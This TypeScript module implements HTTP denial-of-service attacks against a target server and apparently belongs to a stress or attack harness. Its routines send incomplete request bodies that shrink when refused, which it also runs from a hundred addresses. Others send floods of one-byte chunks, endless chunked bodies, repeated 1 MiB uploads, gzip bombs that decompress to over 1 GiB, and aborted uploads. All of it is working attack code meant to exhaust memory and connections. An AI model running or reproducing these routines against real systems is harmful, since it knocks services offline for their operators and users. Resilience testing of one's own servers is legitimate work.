import { gzipSync } from 'node:zlib'
import { CHUNKED, forgedHead, forgedHeadOf, MIB } from './heads.ts'
import { attackWith, type Target } from './target.ts'

const largest = Buffer.alloc(MIB, 0x20)

/**
 * More incomplete bodies than fit into memory: each lacks its last byte. A client that is refused halves its body and tries
 * again at once, so that no room is left, however small.
 */
const holdBodies = (target: Target, addresses: number): Promise<void> => {
  const lengths = new Map<number, number>()
  return attackWith(target, {
    count: 100,
    addresses,
    reopenMs: 50,
    async use(client, index) {
      const length = lengths.get(index) ?? MIB
      const sent = await client.request(forgedHeadOf(length))
      const since = performance.now()
      if (sent && (await client.send(largest.subarray(1, length)))) await client.answer()
      const refused = performance.now() - since < 500
      const next = refused && length > LEAST_HELD ? Math.floor(length / 2) : MIB
      lengths.set(index, next)
      return next === MIB ? 500 : 50
    },
  })
}

export const heldBodies = (target: Target): Promise<void> => holdBodies(target, 1)

/** The same from a hundred addresses. */
export const heldBodiesFromEverywhere = (target: Target): Promise<void> => holdBodies(target, 100)

/** No valid delivery is as small, in bytes. */
const LEAST_HELD = 256

/** Bodies of a million chunks of one byte. */
export const oneByteChunks = (target: Target): Promise<void> => {
  const chunks = Buffer.from('1\r\n \r\n'.repeat(10_000))
  return attackWith(target, {
    count: 64,
    reopenMs: 1000,
    async use(client) {
      if (!(await client.request(`${forgedHead(CHUNKED)}\r\n`))) return
      for (let count = 0; count < 104; count += 1) if (!(await client.send(chunks))) return
      if (await client.send('0\r\n\r\n')) await client.answer()
    },
  })
}

/** Bodies of large chunks that never end. */
export const endlessChunks = (target: Target): Promise<void> => {
  const chunk = Buffer.concat([Buffer.from('10000\r\n'), largest.subarray(0, 0x10000), Buffer.from('\r\n')])
  return attackWith(target, {
    count: 64,
    reopenMs: 250,
    async use(client) {
      let open = await client.request(`${forgedHead(CHUNKED)}\r\n`)
      while (open) open = await client.send(chunk)
    },
  })
}

/** Complete bodies of the largest allowed size, one after the other. */
export const forgedMegabytes = (target: Target): Promise<void> => {
  const request = Buffer.concat([Buffer.from(forgedHeadOf(MIB)), largest])
  return repeat(target, request)
}

/** Bodies of 1 MiB that would decompress to more than 1 GiB. */
export const gzipBombs = (target: Target): Promise<void> => {
  const member = gzipSync(Buffer.alloc(16 * MIB))
  const bomb = Buffer.concat(Array.from({ length: Math.floor(MIB / member.length) }, () => member))
  return repeat(
    target,
    Buffer.concat([Buffer.from(forgedHeadOf(bomb.length, 'Content-Encoding: gzip')), bomb]),
  )
}

/** Uploads that stop halfway; half of the connections are closed, half are reset. */
export const abortedUploads = (target: Target): Promise<void> =>
  attackWith(target, {
    count: 64,
    reopenMs: 25,
    async use(client) {
      await client.request(Buffer.concat([Buffer.from(forgedHeadOf(MIB)), largest.subarray(0, MIB / 2)]))
      if (target.random() < 0.5) client.end()
    },
  })

/** Sends a request over each of 16 connections as often as it is answered. */
function repeat(target: Target, request: Buffer): Promise<void> {
  return attackWith(target, {
    count: 16,
    reopenMs: 25,
    async use(client) {
      while ((await client.request(request)) && (await client.answer())) if (target.signal.aborted) return
    },
  })
}
